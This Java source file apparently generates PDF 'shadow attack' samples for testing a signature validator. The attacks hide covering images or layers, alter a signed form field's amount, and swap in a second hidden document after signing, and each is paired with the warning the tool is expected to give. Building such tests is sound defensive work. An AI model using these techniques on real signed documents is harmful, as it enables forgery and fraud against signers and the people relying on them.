package fr.paraphe.documents.archive.attacks;

import java.awt.image.BufferedImage;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDPageContentStream.AppendMode;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.graphics.optionalcontent.PDOptionalContentGroup;
import org.apache.pdfbox.pdmodel.graphics.optionalcontent.PDOptionalContentProperties;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/** Shadow attacks (2021): the attacker prepares the document before it is signed, and shows afterwards what lay in it. */
final class ShadowAttacks {
    private static final String COVER =
            "Après la signature, une image ou un cache posé sur la page a été retiré ou remplacé\u00a0: ce qu'il cachait se voit (page 1).";
    private static final String LAYER = "Après la signature, un calque du document a été montré ou caché.";
    private static final String FIELD = "Après la signature, un champ déjà rempli a changé de contenu (page 1).";
    private static final String PREPARED =
            "Après la signature, le document affiché a été remplacé par un autre, préparé d'avance dans le fichier (page 1).";
    private static final COSName COVERING = COSName.getPDFName("Covering");
    private static final COSName READY = COSName.getPDFName("ParapheReady");

    private ShadowAttacks() {}

    static List<Attack> of(Victim victim) throws IOException {
        var attacks = new ArrayList<Attack>();
        both(attacks, victim, "hide, the covering picture is emptied", hide(victim, true), COVER);
        both(attacks, victim, "hide, the covering picture is taken from the resources", hide(victim, false), COVER);
        both(attacks, victim, "hide, a layer is turned off", layer(victim), LAYER);
        both(attacks, victim, "replace, value and look of a field", replace(victim, true), FIELD);
        both(attacks, victim, "replace, the look of a field only", replace(victim, false), FIELD);
        byte[] ready = victim.sign(Pdfs.prepared(victim.plain(), ShadowAttacks::second));
        both(attacks, victim, "hide and replace, another root", anotherRoot(ready), PREPARED);
        both(attacks, victim, "hide and replace, the other object of the same number", twin(victim), PREPARED);
        both(attacks, victim, "hide and replace, the page leads to the other content", Pdfs.increment(ready, document -> {
            PDPage page = document.getPage(0);
            page.getCOSObject().setItem(COSName.CONTENTS, other(document).getItem(COSName.CONTENTS));
            Pdfs.touch(page);
        }), PREPARED);
        return attacks;
    }

    private static void both(List<Attack> attacks, Victim victim, String name, byte[] attacked, String told) {
        attacks.add(new Attack("Shadow " + name, attacked, told));
        attacks.add(new Attack("Shadow " + name + ", then signed by an honest person", victim.coverUp(attacked), told));
    }

    private static byte[] hide(Victim victim, boolean emptied) throws IOException {
        byte[] signed = victim.sign(Pdfs.prepared(victim.plain(), document -> {
            PDPage page = document.getPage(0);
            var picture = LosslessFactory.createFromImage(document, new BufferedImage(20, 20, BufferedImage.TYPE_INT_RGB));
            page.getResources().put(COVERING, picture);
            try (var content = new PDPageContentStream(document, page, AppendMode.APPEND, true, true)) {
                content.drawImage(picture, 60, 600, 300, 40);
            }
        }));
        return Pdfs.increment(signed, document -> {
            PDResources resources = document.getPage(0).getResources();
            COSDictionary pictures = resources.getCOSObject().getCOSDictionary(COSName.XOBJECT);
            if (emptied) {
                COSStream picture = (COSStream) pictures.getDictionaryObject(COVERING);
                picture.setItem(COSName.SUBTYPE, COSName.FORM);
                picture.setItem(COSName.BBOX, new PDRectangle(1, 1).getCOSArray());
                picture.createOutputStream().close();
                picture.setNeedToBeUpdated(true);
            } else {
                pictures.removeItem(COVERING);
                pictures.setNeedToBeUpdated(true);
                Pdfs.touch(resources);
                Pdfs.touch(document.getPage(0));
            }
        });
    }

    private static byte[] layer(Victim victim) throws IOException {
        byte[] signed = victim.sign(Pdfs.prepared(victim.plain(), document -> {
            var layers = new PDOptionalContentProperties();
            var group = new PDOptionalContentGroup("cache");
            layers.addGroup(group);
            document.getDocumentCatalog().setOCProperties(layers);
            try (var content = new PDPageContentStream(document, document.getPage(0), AppendMode.APPEND, true, true)) {
                content.beginMarkedContent(COSName.OC, group);
                content.addRect(60, 600, 300, 40);
                content.fill();
                content.endMarkedContent();
            }
        }));
        return Pdfs.increment(signed, document -> {
            PDOptionalContentProperties layers = document.getDocumentCatalog().getOCProperties();
            layers.setGroupEnabled("cache", false);
            Pdfs.touch(layers);
            layers.getCOSObject().getCOSDictionary(COSName.D).setNeedToBeUpdated(true);
            Pdfs.touch(document.getDocumentCatalog());
        });
    }

    private static byte[] replace(Victim victim, boolean withValue) throws IOException {
        byte[] signed = victim.sign(Pdfs.prepared(victim.plain(), document -> textField(document, "600 euros")));
        return Pdfs.increment(signed, document -> {
            PDTextField field = (PDTextField) document.getDocumentCatalog().getAcroForm(null).getField("gratification");
            if (withValue) {
                field.getCOSObject().setString(COSName.V, "60 euros");
            }
            show(document, field.getWidgets().getFirst(), "60 euros");
            Pdfs.touch(field);
        });
    }

    static PDTextField textField(PDDocument document, String value) throws IOException {
        PDAcroForm form = document.getDocumentCatalog().getAcroForm(null);
        var field = new PDTextField(form);
        field.setPartialName("gratification");
        field.getCOSObject().setString(COSName.V, value);
        field.getCOSObject().setString(COSName.DA, "/Helv 10 Tf 0 g");
        PDAnnotationWidget widget = field.getWidgets().getFirst();
        widget.setRectangle(new PDRectangle(350, 780, 120, 18));
        widget.setPage(document.getPage(0));
        widget.setPrinted(true);
        show(document, widget, value);
        document.getPage(0).getAnnotations().add(widget);
        form.getFields().add(field);
        return field;
    }

    static void show(PDDocument document, PDAnnotationWidget widget, String text) throws IOException {
        var look = new PDAppearanceStream(document);
        look.setResources(new PDResources());
        look.setBBox(new PDRectangle(120, 18));
        try (var out = look.getContentStream().createOutputStream()) {
            out.write(Pdfs.bytes("/Tx BMC q BT /Helv 10 Tf 2 5 Td (" + text + ") Tj ET Q EMC"));
        }
        var appearance = new PDAppearanceDictionary();
        appearance.setNormalAppearance(look);
        widget.setAppearance(appearance);
    }

    /** A second document, complete, under an entry of the catalog that no reader knows. */
    private static void second(PDDocument document) throws IOException {
        var page = new COSDictionary(document.getPage(0).getCOSObject());
        var content = new PDStream(document);
        try (var out = content.createOutputStream()) {
            out.write(Pdfs.bytes("q 0 0 1 rg 60 500 300 200 re f Q"));
        }
        page.setItem(COSName.CONTENTS, content);
        var pages = new COSDictionary(document.getPages().getCOSObject());
        var kids = new COSArray(document.getPages().getCOSObject().getCOSArray(COSName.KIDS).toList());
        kids.set(0, page);
        pages.setItem(COSName.KIDS, kids);
        page.setItem(COSName.PARENT, pages);
        var catalog = new COSDictionary(document.getDocumentCatalog().getCOSObject());
        catalog.setItem(COSName.PAGES, pages);
        document.getDocumentCatalog().getCOSObject().setItem(READY, catalog);
    }

    private static COSDictionary other(PDDocument document) {
        COSDictionary ready = document.getDocumentCatalog().getCOSObject().getCOSDictionary(READY);
        return (COSDictionary) ready.getCOSDictionary(COSName.PAGES).getCOSArray(COSName.KIDS).getObject(0);
    }

    private static byte[] anotherRoot(byte[] ready) throws IOException {
        try (PDDocument document = Loader.loadPDF(ready)) {
            var root = ((COSObject) document.getDocumentCatalog().getCOSObject().getItem(READY)).getKey();
            return Pdfs.remap(ready, root.getNumber() + " 0 R");
        }
    }

    /** Twice the same number in the body before anybody signs: the table led to one, an increment leads to the other. */
    private static byte[] twin(Victim victim) throws IOException {
        try (PDDocument document = Loader.loadPDF(victim.plain())) {
            int content = (int) ((COSObject) document.getPage(0).getCOSObject().getItem(COSName.CONTENTS)).getKey().getNumber();
            String root = ((COSObject) document.getDocument().getTrailer().getItem(COSName.ROOT)).getKey().getNumber() + " 0 R";
            String drawing = "0 0 1 rg 60 500 300 200 re f";
            byte[] twice = Pdfs.append(victim.plain(), content + " 0 obj\n<< /Length " + drawing.length() + " >>\nstream\n" + drawing
                    + "\nendstream\nendobj\n");
            return Pdfs.remap(victim.sign(Pdfs.remap(twice, root)), root, content, victim.plain().length);
        }
    }
}
